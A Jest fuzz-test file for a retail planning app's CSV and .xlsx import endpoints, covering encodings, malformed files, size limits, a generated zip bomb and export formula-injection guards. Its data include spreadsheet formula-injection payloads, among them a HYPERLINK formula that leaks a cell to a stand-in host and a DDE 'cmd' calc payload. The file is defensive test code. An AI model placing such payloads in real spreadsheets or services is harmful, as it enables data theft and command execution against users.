// Bad input in files: every import endpoint (plan lines, the order fair's order sheet, head
// office's shipping list) against encodings (UTF-8 with and without BOM, GB18030, UTF-16),
// line ends and quoting, formulas in cells, empty and header-only files, wrong and duplicate
// headers, random bytes named .xlsx, truncated zips, 100k-row files, bodies above the limit, and
// fast-check mutations of valid files. Asserted: no 5xx, a clean error code naming the file or
// the sheet row and column, nothing imported from a refused file (every table's checksum
// unchanged). And every CSV/.xlsx export of user-entered text neutralises formula injection.
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import JSZip from 'jszip'; // exceljs's own zip library
import { parseCsv } from '../../lib/files/read';
import { parsePlanFile } from '../../lib/plans/import';
import { startProcessWorld, type ProcessWorld } from '../helpers/processApi';
import { quietTables, tableChecksums } from './arbitraries';
import { FULL, recordReliability, runs } from './report';

jest.setTimeout(FULL ? 900_000 : 300_000);

const SEED = Number(process.env.FUZZ_SEED ?? 20261128);
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const LEAK = /\n\s+at |\bat [\w$.<>]+ \(|\.ts:\d|\.js:\d|\/work\/|node_modules|Prisma|Invalid `/;

let w: ProcessWorld;
let planId: string;

// ---- files ---------------------------------------------------------------------------------------

/** GB18030 bytes of the 2-byte (GBK) characters, built from the platform's decoder (it has no encoder). */
const GBK = (() => {
  const map = new Map<string, Buffer>();
  const dec = new TextDecoder('gb18030');
  for (let lead = 0x81; lead <= 0xfe; lead++) {
    for (let trail = 0x40; trail <= 0xfe; trail++) {
      if (trail === 0x7f) continue;
      const c = dec.decode(Uint8Array.of(lead, trail));
      if (c.length === 1 && c !== '\uFFFD' && !map.has(c)) map.set(c, Buffer.from([lead, trail]));
    }
  }
  return map;
})();
const CJK = [...GBK.keys()].filter((c) => /\p{Script=Han}/u.test(c));

/** GB18030 bytes of text; a character outside GBK's two-byte range becomes '?' (as a Chinese Excel saves it). */
function gb18030(text: string): Buffer {
  return Buffer.concat([...text].map((c) => (c.charCodeAt(0) < 0x80 ? Buffer.from(c, 'latin1') : (GBK.get(c) ?? Buffer.from('?')))));
}

type Encoding = 'utf8' | 'utf8-bom' | 'gb18030';
const ENCODINGS: Encoding[] = ['utf8', 'utf8-bom', 'gb18030'];

function encode(text: string, enc: Encoding): Buffer {
  if (enc === 'gb18030') return gb18030(text);
  return Buffer.from(enc === 'utf8-bom' ? `\uFEFF${text}` : text, 'utf8');
}

/** CSV text: fields quoted when needed (or always), with the line end given. */
function csv(rows: string[][], eol: '\r\n' | '\n' = '\r\n', quoteAll = false): string {
  const field = (s: string) => (quoteAll || /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
  return rows.map((r) => r.map(field).join(',')).join(eol) + eol;
}

async function xlsx(rows: ExcelJS.CellValue[][], sheets = 1): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Sheet1');
  for (const r of rows) ws.addRow(r);
  for (let i = 1; i < sheets; i++) wb.addWorksheet(`S${i + 1}`);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

// ---- the endpoints -------------------------------------------------------------------------------

type Endpoint = 'plans' | 'bookings' | 'shipments';
const ENDPOINTS: Endpoint[] = ['plans', 'bookings', 'shipments'];
const HEADERS: Record<Endpoint, string[]> = {
  plans: ['品类', '片区', '店铺', '数量', '金额'],
  bookings: ['加盟商', '款号', '尺码', '数量'],
  shipments: ['发货单号', '款号', '尺码', '数量', '预计到货'],
};
/** A data row that is well formed but names nothing we know, so the refusal names its cell. */
const UNKNOWN_ROW: Record<Endpoint, { row: string[]; field: string }> = {
  plans: { row: ['连衣裙', '西北区', '', '10', '100.50'], field: 'region' },
  bookings: { row: ['F999', '27SS-TS-001', 'M', '5'], field: 'franchisee' },
  shipments: { row: ['FH-甲', '27SS-未知款', 'M', '5', '2027-03-20'], field: 'sku' },
};

interface Reply {
  status: number;
  body: { error?: { code?: string; message?: string; details?: Record<string, string> } } & Record<string, unknown>;
  text: string;
}

async function upload(endpoint: Endpoint, body: Buffer, contentType: string | undefined): Promise<Reply> {
  const [method, path, user] =
    endpoint === 'plans'
      ? ['PUT', `/api/plans/${planId}/lines`, 'specialist']
      : endpoint === 'bookings'
        ? ['POST', '/api/bookings/import?season=2027SS', 'specialist']
        : ['POST', '/api/shipments/import', 'follower'];
  const res = await fetch(w.api.url + path, {
    method,
    headers: { authorization: `Bearer ${w.as(user).token}`, ...(contentType ? { 'content-type': contentType } : {}) },
    body,
  });
  const text = await res.text();
  let parsed: Reply['body'] = {};
  try {
    parsed = JSON.parse(text);
  } catch {
    /* checked below */
  }
  return { status: res.status, body: parsed, text };
}

/** The problem with a refusal, or null: a clean 4xx with a snake_case code, no internals. */
function refusalProblem(r: Reply): string | null {
  if (r.status >= 500) return `${r.status}: ${r.text.slice(0, 300)}`;
  if (r.status < 400) return null;
  const code = r.body.error?.code;
  if (typeof code !== 'string' || !/^[a-z][a-z0-9]*(_[a-z0-9]+)*$/.test(code) || typeof r.body.error?.message !== 'string')
    return `not {error:{code,message}}: ${r.status} ${r.text.slice(0, 300)}`;
  if (LEAK.test(r.text)) return `leaks internals: ${r.text.slice(0, 300)}`;
  if (r.status === 422 && !Object.keys(r.body.error?.details ?? {}).length) return `422 without details: ${r.text.slice(0, 300)}`;
  return null;
}

beforeAll(async () => {
  w = await startProcessWorld();
  const plan = await w.post('/api/plans', { season: '2027SS', type: 'purchase', title: 'import target' }, 'specialist');
  expect(plan.status).toBe(201);
  planId = plan.body.id;
});

afterAll(async () => {
  await w?.close();
});

// ---- encodings -------------------------------------------------------------------------------------

test('encodings, line ends and quoting: Chinese headers read right in UTF-8 (± BOM) and GB18030; UTF-16 refused clearly', async () => {
  let files = 0;
  const before = await tableChecksums(w.h.db);
  for (const endpoint of ENDPOINTS) {
    for (const enc of ENCODINGS) {
      for (const eol of ['\r\n', '\n'] as const) {
        for (const quoteAll of [false, true]) {
          const { row, field } = UNKNOWN_ROW[endpoint];
          const text = csv([HEADERS[endpoint], row], eol, quoteAll);
          const r = await upload(endpoint, encode(text, enc), 'text/csv');
          files++;
          // The refusal names row 2's cell: the headers were found (else: "no header row" on file).
          expect({
            endpoint,
            enc,
            eol,
            quoteAll,
            status: r.status,
            problem: refusalProblem(r),
            key: Object.keys(r.body.error?.details ?? {}).find((k) => k.startsWith('rows.2.')),
          }).toEqual({
            endpoint,
            enc,
            eol,
            quoteAll,
            status: 422,
            problem: null,
            key: `rows.2.${field}`,
          });
        }
      }
    }
    // UTF-16 (as some tools save "Unicode text"): refused with a sentence about the file.
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv([HEADERS[endpoint], UNKNOWN_ROW[endpoint].row]), 'utf16le')]);
    const r = await upload(endpoint, utf16, 'text/csv');
    files++;
    expect({ endpoint, status: r.status, problem: refusalProblem(r), keys: Object.keys(r.body.error?.details ?? {}) }).toEqual({
      endpoint,
      status: 422,
      problem: null,
      keys: ['file'],
    });
  }
  expect(await tableChecksums(w.h.db)).toEqual(before); // nothing from a refused file

  // And accepted: the same plan file in each encoding gives the same Chinese lines.
  const lines = [
    ['连衣裙', 'EAST', '', '10', '100.50'],
    ['衬衫, "短袖"', '', 'S001', '3', '0.01'],
  ];
  for (const enc of ENCODINGS) {
    for (const eol of ['\r\n', '\n'] as const) {
      const r = await upload('plans', encode(csv([HEADERS.plans, ...lines], eol), enc), 'text/csv; charset=whatever');
      files++;
      expect({ enc, eol, status: r.status }).toEqual({ enc, eol, status: 200 });
      const got = (
        r.body.revision as {
          lines: { category: string; regionId: string | null; storeId: string | null; qty: number; amountFen: number }[];
        }
      ).lines;
      expect(got.map((l) => [l.category, l.regionId ?? '', l.storeId ?? '', String(l.qty), String(l.amountFen)])).toEqual([
        ['连衣裙', 'EAST', '', '10', '10050'],
        ['衬衫, "短袖"', '', 'S001', '3', '1'],
      ]);
    }
  }

  // Property: random Chinese and awkward ASCII categories survive every encoding, line end and quoting.
  const category = fc
    .array(
      fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom(...CJK) },
        { weight: 1, arbitrary: fc.constantFrom('a', 'Z', '1', ',', '"', ' ', '-', '(', '）', '\n', ';', '\t') },
      ),
      { minLength: 1, maxLength: 30 },
    )
    .map((cs) => cs.join('').trim())
    .filter((s) => s !== '' && !/^[=+\-@]/.test(s) && !/^["\s]/.test(s));
  let generated = 0;
  await fc.assert(
    fc.asyncProperty(
      fc.array(category, { minLength: 1, maxLength: 20 }),
      fc.constantFrom(...ENCODINGS),
      fc.constantFrom<'\r\n' | '\n'>('\r\n', '\n'),
      fc.boolean(),
      async (cats, enc, eol, quoteAll) => {
        generated++;
        const text = csv([HEADERS.plans, ...cats.map((c, i) => [c, '', '', String(i + 1), '1.00'])], eol, quoteAll);
        const read = await parsePlanFile(encode(text, enc), 'text/csv');
        if (!read.ok) throw new Error(`refused: ${read.message}`);
        expect(read.lines.map((l) => l.category)).toEqual(cats.map((c) => c.trim()));
      },
    ),
    { seed: SEED, numRuns: runs(150, 2000) },
  );
  files += generated;

  recordReliability({
    id: 'fuzz-imports-encodings',
    kind: 'bad input',
    tried: `${files} import files: each of the 3 imports (plan lines, order sheet, shipping list) as UTF-8, UTF-8 with BOM and GB18030, CRLF and LF, plain and fully quoted, and as UTF-16; plus ${generated} fast-check plan files with random Chinese and quote/comma/newline categories in a random encoding`,
    runs: files,
    checked:
      'the Chinese headers are found in every encoding (a refusal names the sheet cell rows.2.<field>, not the file), the same lines come back in each encoding, UTF-16 is refused with a file-level 422, and a refused file changes no table',
    outcome: `${files}/${files} files read right or refused cleanly; 0 5xx; 0 rows imported from refused files`,
    lost: 0,
  });
});

// ---- malformed files, sizes, formulas, mutations ---------------------------------------------------

test('malformed, empty, huge and mutated files: clean refusals, all or none', async () => {
  const cases: { what: string; endpoint: Endpoint; body: Buffer; type?: string; status: number; key?: RegExp }[] = [];
  const valid = await xlsx([HEADERS.bookings, ['F001', '27SS-TS-001', 'M', 1]]);
  const random = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256));
  for (const endpoint of ENDPOINTS) {
    const header = csv([HEADERS[endpoint]]);
    cases.push(
      { what: 'empty body', endpoint, body: Buffer.alloc(0), type: 'text/csv', status: 422, key: /^file$/ },
      { what: 'blank lines only', endpoint, body: Buffer.from('\r\n\r\n  \r\n'), type: 'text/csv', status: 422, key: /^file$/ },
      { what: 'header only', endpoint, body: Buffer.from(header), type: 'text/csv', status: 422, key: /^file$/ },
      {
        what: 'wrong headers',
        endpoint,
        body: Buffer.from('名字,年龄,城市\r\n张三,30,上海\r\n'),
        type: 'text/csv',
        status: 422,
        key: /^file$/,
      },
      {
        what: 'duplicate headers',
        endpoint,
        body: Buffer.from(
          csv([
            [...HEADERS[endpoint], HEADERS[endpoint][1]!],
            [...UNKNOWN_ROW[endpoint].row, 'x'],
          ]),
        ),
        type: 'text/csv',
        status: 422,
        key: /^file$/,
      },
      { what: 'unterminated quote', endpoint, body: Buffer.from(`${header}"abc,1,2\r\n`), type: 'text/csv', status: 422, key: /^file$/ },
      { what: 'random bytes named .xlsx', endpoint, body: random, type: XLSX, status: 422, key: /^file$/ },
      { what: 'random bytes as CSV', endpoint, body: random, type: 'text/csv', status: 422, key: /^file$/ },
      { what: 'truncated .xlsx', endpoint, body: valid.subarray(0, Math.floor(valid.length / 2)), type: XLSX, status: 422, key: /^file$/ },
      {
        what: 'truncated .xlsx as octet-stream',
        endpoint,
        body: valid.subarray(0, 200),
        type: 'application/octet-stream',
        status: 422,
        key: /^file$/,
      },
      {
        what: 'old .xls',
        endpoint,
        body: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), random]),
        type: XLSX,
        status: 422,
        key: /^file$/,
      },
      { what: 'an .xlsx sent as CSV', endpoint, body: valid, type: 'text/csv', status: 422, key: /^file$/ },
      { what: 'empty workbook sheet', endpoint, body: await xlsx([], 2), type: XLSX, status: 422, key: /^file$/ },
      { what: 'header-only sheet', endpoint, body: await xlsx([HEADERS[endpoint]]), type: XLSX, status: 422, key: /^file$/ },
      { what: 'JSON instead of a file', endpoint, body: Buffer.from('{"lines":[]}'), type: 'application/json', status: 422 },
      { what: 'no content type', endpoint, body: Buffer.from(header), type: undefined, status: 422 },
      { what: 'image content type', endpoint, body: random, type: 'image/png', status: 422, key: /^file$/ },
      {
        what: 'NUL bytes in CSV',
        endpoint,
        body: Buffer.from(`${header}${UNKNOWN_ROW[endpoint].row.join(',')}\0\r\n`),
        type: 'text/csv',
        status: 422,
        key: /^file$/,
      },
    );
  }
  // 100,000 rows: refused by the row limit, as a clean 422 on the file, nothing imported.
  const rowsOf = (endpoint: Endpoint, n: number) => {
    const row = {
      plans: (i: number) => `品${i % 50},EAST,,1,1.00`,
      bookings: (i: number) => `F001,27SS-TS-001,M,${(i % 9) + 1}`,
      shipments: (i: number) => `FH-${i},27SS-TS-001,M,1,2027-03-20`,
    }[endpoint];
    return Buffer.from(`${HEADERS[endpoint].join(',')}\r\n${Array.from({ length: n }, (_, i) => row(i)).join('\r\n')}\r\n`);
  };
  for (const endpoint of ENDPOINTS)
    cases.push({ what: '100,000 rows', endpoint, body: rowsOf(endpoint, 100_000), type: 'text/csv', status: 422, key: /^file$/ });
  // Above the body limit (5 MB for plans, 10 MB for the others): 413 before anything is read.
  for (const endpoint of ENDPOINTS)
    cases.push({
      what: 'body above the limit',
      endpoint,
      body: Buffer.concat([rowsOf(endpoint, 10), Buffer.alloc(11 * 1024 * 1024, 0x41)]),
      type: 'text/csv',
      status: 413,
    });

  // A zip bomb: a valid .xlsx whose sheet unpacks to 120 MB (of white space) from ~120 KB.
  const bomb = await JSZip.loadAsync(await xlsx([HEADERS.bookings, ['F001', '27SS-TS-001', 'M', 1]]));
  const sheet = (await bomb.file('xl/worksheets/sheet1.xml')!.async('string')).replace(
    '<sheetData>',
    `<sheetData>${' '.repeat(120 * 1024 * 1024)}`,
  );
  bomb.file('xl/worksheets/sheet1.xml', sheet);
  const bombBody = await bomb.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
  expect(bombBody.length).toBeLessThan(2 * 1024 * 1024);
  for (const endpoint of ENDPOINTS)
    cases.push({ what: 'zip bomb .xlsx (120 MB unpacked)', endpoint, body: bombBody, type: XLSX, status: 422, key: /^file$/ });

  const before = await tableChecksums(w.h.db);
  const seen: string[] = [];
  for (const c of cases) {
    const r = await upload(c.endpoint, c.body, c.type);
    const keys = Object.keys(r.body.error?.details ?? {});
    seen.push(`${c.endpoint}/${c.what}: ${r.status} ${r.body.error?.code}`);
    expect({
      endpoint: c.endpoint,
      what: c.what,
      status: r.status,
      problem: refusalProblem(r),
      keyOk: c.key ? keys.some((k) => c.key!.test(k)) : true,
    }).toEqual({
      endpoint: c.endpoint,
      what: c.what,
      status: c.status,
      problem: null,
      keyOk: true,
    });
  }
  expect(await tableChecksums(w.h.db)).toEqual(before);

  // Row-level errors name the sheet row and column: a bad quantity in row 3 and a bad date in row 4.
  const rowErrors = await upload(
    'shipments',
    Buffer.from(
      csv([
        HEADERS.shipments,
        ['FH-1', '27SS-TS-001', 'M', '1', '2027-03-20'],
        ['FH-1', '27SS-TS-001', 'L', '-3', '2027-03-20'],
        ['FH-2', '27SS-TS-001', 'M', '1', '2026-02-30'],
      ]),
    ),
    'text/csv',
  );
  expect(rowErrors.status).toBe(422);
  expect(Object.keys(rowErrors.body.error!.details!)).toEqual(expect.arrayContaining(['rows.3.qty', 'rows.4.expectedArrival']));
  expect(await tableChecksums(w.h.db)).toEqual(before);

  // Property: mutations of valid files (truncation, inserted bytes and quotes, swapped and
  // duplicated columns, formula prefixes, huge cells, mixed line ends) at random endpoints.
  const base: Record<Endpoint, string[][]> = {
    plans: [HEADERS.plans, ['T恤', 'EAST', '', '10', '100.50'], ['衬衫', '', 'S002', '3', '9']],
    bookings: [HEADERS.bookings, ['F002', '27SS-TS-001', 'M', '4'], ['F002', '27SS-SH-002', 'L', '2']],
    shipments: [HEADERS.shipments, ['FH-M1', '27SS-TS-001', 'M', '2', '2027-03-20'], ['FH-M1', '27SS-DR-003', 'S', '1', '2027-03-21']],
  };
  const cell = fc.oneof(
    fc.constantFrom(
      '',
      ' ',
      '=1+1',
      '=HYPERLINK("http://evil.example","x")',
      "+cmd|' /C calc'!A0",
      '@SUM(A1:A2)',
      '-2+3',
      '\t=1',
      '"',
      '""',
      '1e3',
      '-1',
      '0',
      '1.5',
      '999999999999',
      '２',
      '2027-02-30',
      '合计',
      '\uFEFF',
      'x'.repeat(5_000),
    ),
    fc.string({ maxLength: 12 }),
  );
  const mutation = fc.oneof(
    fc.record({ kind: fc.constant('cell' as const), row: fc.nat(3), col: fc.nat(5), value: cell }),
    fc.record({ kind: fc.constant('truncate' as const), at: fc.double({ min: 0, max: 1, noNaN: true }) }),
    fc.record({
      kind: fc.constant('insert' as const),
      at: fc.double({ min: 0, max: 1, noNaN: true }),
      bytes: fc.uint8Array({ minLength: 1, maxLength: 8 }),
    }),
    fc.record({ kind: fc.constant('swap-columns' as const), a: fc.nat(4), b: fc.nat(4) }),
    fc.record({ kind: fc.constant('drop-column' as const), col: fc.nat(4) }),
    fc.record({ kind: fc.constant('duplicate-row' as const), row: fc.nat(2) }),
  );
  type Mutation = typeof mutation extends fc.Arbitrary<infer M> ? M : never;
  function mutate(rows: string[][], ms: Mutation[], enc: Encoding, eol: '\r\n' | '\n'): Buffer {
    let table = rows.map((r) => [...r]);
    for (const m of ms) {
      if (m.kind === 'cell' && table[m.row]) table[m.row]![m.col] = m.value;
      if (m.kind === 'swap-columns') table = table.map((r) => { const x = [...r]; [x[m.a], x[m.b]] = [x[m.b] ?? '', x[m.a] ?? '']; return x; }); // prettier-ignore
      if (m.kind === 'drop-column') table = table.map((r) => r.filter((_, i) => i !== m.col));
      if (m.kind === 'duplicate-row' && table[m.row]) table.splice(m.row, 0, [...table[m.row]!]);
    }
    let buf = encode(
      csv(
        table.map((r) => Array.from(r, (c) => c ?? '')),
        eol,
      ),
      enc,
    );
    for (const m of ms) {
      if (m.kind === 'truncate') buf = buf.subarray(0, Math.floor(buf.length * m.at));
      if (m.kind === 'insert') {
        const at = Math.floor(buf.length * m.at);
        buf = Buffer.concat([buf.subarray(0, at), Buffer.from(m.bytes), buf.subarray(at)]);
      }
    }
    return buf;
  }
  let mutated = 0;
  let accepted = 0;
  let refused = 0;
  let baseline = await quietTables(w.h.db);
  const details = await fc.check(
    fc.asyncProperty(
      fc.constantFrom(...ENDPOINTS),
      fc.array(mutation, { minLength: 1, maxLength: 4 }),
      fc.constantFrom(...ENCODINGS),
      fc.constantFrom<'\r\n' | '\n'>('\r\n', '\n'),
      fc.constantFrom('text/csv', 'application/octet-stream', 'text/plain; charset=gbk'),
      async (endpoint, ms, enc, eol, type) => {
        mutated++;
        const r = await upload(endpoint, mutate(base[endpoint], ms, enc, eol), type);
        const problem = refusalProblem(r);
        if (problem) throw new Error(`${endpoint} ${JSON.stringify(ms).slice(0, 400)} ${enc}: ${problem}`);
        if (r.status < 300) {
          accepted++;
          baseline = await quietTables(w.h.db); // an accepted file's rows (and its workflows') are legitimate
        } else {
          refused++;
          const now = await tableChecksums(w.h.db);
          const changed = Object.keys(now).filter((t) => now[t] !== baseline[t]);
          if (changed.length)
            throw new Error(
              `a refused ${endpoint} file (${r.status} ${r.body.error?.code}) changed ${changed.join(', ')}: ${JSON.stringify(ms).slice(0, 400)}`,
            );
        }
      },
    ),
    { seed: SEED + 2, numRuns: runs(120, 1500), endOnFailure: true },
  );
  if (details.failed)
    throw new Error(
      `seed ${SEED + 2} (FUZZ_SEED to replay): ${details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance)}`,
    );
  expect(refused).toBeGreaterThan(0);

  recordReliability({
    id: 'fuzz-imports-size',
    kind: 'bad input',
    tried: `${cases.length + 1} hand-made files over the 3 imports (empty, blank, header-only, wrong and duplicate headers, unterminated quotes, NUL bytes, random bytes as CSV and named .xlsx, truncated .xlsx, old .xls, an empty workbook, a zip-bomb .xlsx unpacking to 120 MB, 100,000-row CSVs, bodies above the 5/10 MB limit) and ${mutated} fast-check mutations of valid files (truncation, inserted bytes, formula and huge cells, swapped, dropped and duplicated columns and rows, 3 encodings)`,
    runs: cases.length + 1 + mutated,
    checked:
      'no 5xx; each refusal is {error:{code,message}} naming the file or the sheet cell (rows.<n>.<field>), 100,000 rows are refused by the row limit, the zip bomb before unpacking, oversized bodies with 413; the md5 of every table is unchanged after each refused file (all or none)',
    outcome: `${cases.length + 1 + refused} refused cleanly, ${accepted} mutated files still valid and imported whole; 0 5xx; 0 rows from refused files`,
    lost: 0,
  });
});

// ---- formulas in and out -------------------------------------------------------------------------

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '=1+1', "+cmd|' /C calc'!A0", '@SUM(1,2)', '-2+3', '\t=2+2', '\r=3+3'];
/** OWASP: a cell that starts like this is a formula to a spreadsheet. */
const DANGEROUS = /^[=+\-@\t\r]/;
/** Numbers may start with '-' (never a formula on their own). */
const NUMERIC = /^-?\d+(\.\d+)?%?$/;

function csvCells(buf: Buffer): string[] {
  const parsed = parseCsv(buf.toString('utf8').replace(/^\uFEFF/, ''));
  if ('error' in parsed) throw new Error(parsed.error);
  return parsed.rows.flat();
}

async function xlsxProblems(buf: Buffer): Promise<{ formulas: number; texts: string[] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as Parameters<typeof wb.xlsx.load>[0]);
  let formulas = 0;
  const texts: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((row) => row.eachCell((c) => {
      if (c.type === ExcelJS.ValueType.Formula || c.formula) formulas++;
      if (typeof c.value === 'string') texts.push(c.value);
    })); // prettier-ignore
  }
  return { formulas, texts };
}

test('formulas in imported cells stay text; every CSV/.xlsx export neutralises formula injection', async () => {
  // In: a plan file whose categories are formulas is imported as that text, never evaluated.
  const planFile = csv([HEADERS.plans, ...FORMULAS.map((f, i) => [f, '', '', String(i + 1), '1.00'])]);
  const imported = await upload('plans', Buffer.from(planFile), 'text/csv');
  expect({ status: imported.status, error: imported.body.error }).toEqual({ status: 200, error: undefined });
  const categories = (imported.body.revision as { lines: { category: string }[] }).lines.map((l) => l.category);
  expect(categories).toEqual(FORMULAS.map((f) => f.trim()));
  // An .xlsx formula cell gives its cached result; one without a result is blank (a row error naming it).
  const xf = await upload(
    'plans',
    await xlsx([
      HEADERS.plans,
      [{ formula: 'HYPERLINK("http://evil.example","x")', result: '外套' } as ExcelJS.CellValue, '', '', 1, 1],
      [{ formula: '1+1' } as ExcelJS.CellValue, '', '', 1, 1],
    ]),
    XLSX,
  );
  expect(xf.status).toBe(422);
  expect(Object.keys(xf.body.error!.details!)).toEqual(['rows.3.category']);

  // Out: user-entered text that looks like a formula in master data and plans.
  const evil = {
    region: '=1+1',
    franchisee: '=HYPERLINK("http://evil.example","点我")',
    product: '@SUM(1,2)',
    user: "+cmd|' /C calc'!A0",
    store: '-2+3',
  };
  const admin = (method: string, path: string, body: unknown) => w.api.request(method, path, { ...w.as('admin'), body });
  expect((await admin('PUT', '/api/regions/EAST', { name: evil.region })).status).toBe(200);
  expect((await admin('PUT', '/api/franchisees/F001', { name: evil.franchisee })).status).toBe(200);
  expect((await admin('PUT', '/api/products/27SS-TS-001', { name: evil.product })).status).toBe(200);
  expect((await admin('PUT', '/api/stores/S001', { name: evil.store })).status).toBe(200);
  const manager = await w.h.db.user.findFirstOrThrow({ where: { username: 'manager' } });
  expect((await admin('PUT', `/api/users/${manager.id}`, { name: evil.user })).status).toBe(200);
  const booking = await w.post(
    '/api/bookings',
    { franchiseeId: 'F001', season: '2027SS', lines: [{ sku: '27SS-TS-001', size: 'M', qty: 3 }] },
    'specialist',
  );
  expect(booking.status).toBe(201);
  await w.h.tasks(booking.body.workflowId, (ts) => ts.length > 0).catch(() => []);

  const exports = [
    `/api/plans/${planId}/export?format=csv`,
    `/api/plans/${planId}/export?format=xlsx`,
    '/api/bookings/summary/export?season=2027SS&format=csv',
    '/api/bookings/summary/export?season=2027SS&format=xlsx',
    '/api/reports/order-balance?season=2027SS&format=csv',
    '/api/reports/order-balance?season=2027SS&format=xlsx',
    ...[
      'dashboard',
      'tasks',
      'escalations',
      'cycle-times',
      'prepayments',
      'delayed-shipments',
      'order-totals',
      'late-price-approvals',
      'returns',
    ].flatMap((r) => [`/api/reports/${r}?format=csv`, `/api/reports/${r}?format=xlsx`]),
  ];
  const evilTexts = [...FORMULAS.map((f) => f.trim()), ...Object.values(evil)];
  const seenEvil = new Set<string>();
  let cells = 0;
  for (const path of exports) {
    const res = await fetch(w.api.url + path, { headers: { authorization: `Bearer ${w.as('admin').token}` } });
    expect({ path, status: res.status }).toEqual({ path, status: 200 });
    const buf = Buffer.from(await res.arrayBuffer());
    if (path.includes('format=csv')) {
      const all = csvCells(buf);
      cells += all.length;
      const dangerous = all.filter((c) => DANGEROUS.test(c) && !NUMERIC.test(c));
      expect({ path, dangerous }).toEqual({ path, dangerous: [] });
      for (const c of all) if (c.startsWith("'") && evilTexts.includes(c.slice(1))) seenEvil.add(c.slice(1));
    } else {
      const { formulas, texts } = await xlsxProblems(buf);
      cells += texts.length;
      // In .xlsx a string cell is never evaluated, whatever it starts with; there must be no formula cells.
      expect({ path, formulas }).toEqual({ path, formulas: 0 });
      for (const t of texts) if (evilTexts.includes(t)) seenEvil.add(t);
    }
  }
  // The hostile texts did reach the exports (so the checks above looked at them).
  expect([...seenEvil].sort()).toEqual(expect.arrayContaining([FORMULAS[1]!, evil.franchisee, evil.region].sort()));

  // A plan exported with guarded cells imports back to the same text.
  const exported = await fetch(w.api.url + `/api/plans/${planId}/export?format=csv`, {
    headers: { authorization: `Bearer ${w.as('admin').token}` },
  });
  const back = await upload('plans', Buffer.from(await exported.arrayBuffer()), 'text/csv');
  expect(back.status).toBe(200);
  expect((back.body.revision as { lines: { category: string }[] }).lines.map((l) => l.category)).toEqual(FORMULAS.map((f) => f.trim()));

  recordReliability({
    id: 'export-formula-injection',
    kind: 'bad input',
    tried: `formula text (=HYPERLINK, =1+1, +cmd|, @SUM, -2+3, tab and CR first) in ${FORMULAS.length} imported plan categories, an .xlsx formula cell, and in a region, franchisee, product, store and user name; then ${exports.length} CSV and .xlsx exports (plan lines, booking summary, order balance, every report)`,
    runs: exports.length,
    checked:
      'imported formulas are stored as their text and never evaluated (an .xlsx formula counts as its cached result); no exported CSV cell starts with = + - @ tab or CR unless it is a number, the .xlsx exports hold no formula cells, and a guarded plan export imports back to the same text',
    outcome: `${cells} exported cells checked, 0 unguarded formulas; ${seenEvil.size} hostile texts seen neutralised in the exports`,
    lost: 0,
  });
});
